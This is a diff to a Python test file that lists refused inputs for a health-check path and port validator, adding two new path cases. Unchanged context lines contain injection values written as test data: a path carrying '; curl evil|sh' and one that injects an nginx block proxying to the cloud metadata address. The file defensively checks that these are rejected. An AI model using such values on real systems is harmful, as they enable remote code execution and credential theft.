@@ -43,6 +43,8 @@ REFUSED: list[tuple[dict[str, Any], str]] = [
     ({"health_path": "/h; curl evil|sh"}, "a path that begins with /"),
     ({"health_path": "/h { } location / { proxy_pass http://169.254.169.254; } #"}, "a path that begins with /"),
     ({"health_path": "health"}, "a path that begins with /"),
+    ({"health_path": "/"}, "a path that begins with /"),
+    ({"health_path": "/ready"}, "other than /ready"),
     ({"port": 22}, "1024 to 65535"),
     ({"port": "0"}, "1024 to 65535"),
     ({"port": 65536}, "1024 to 65535"),
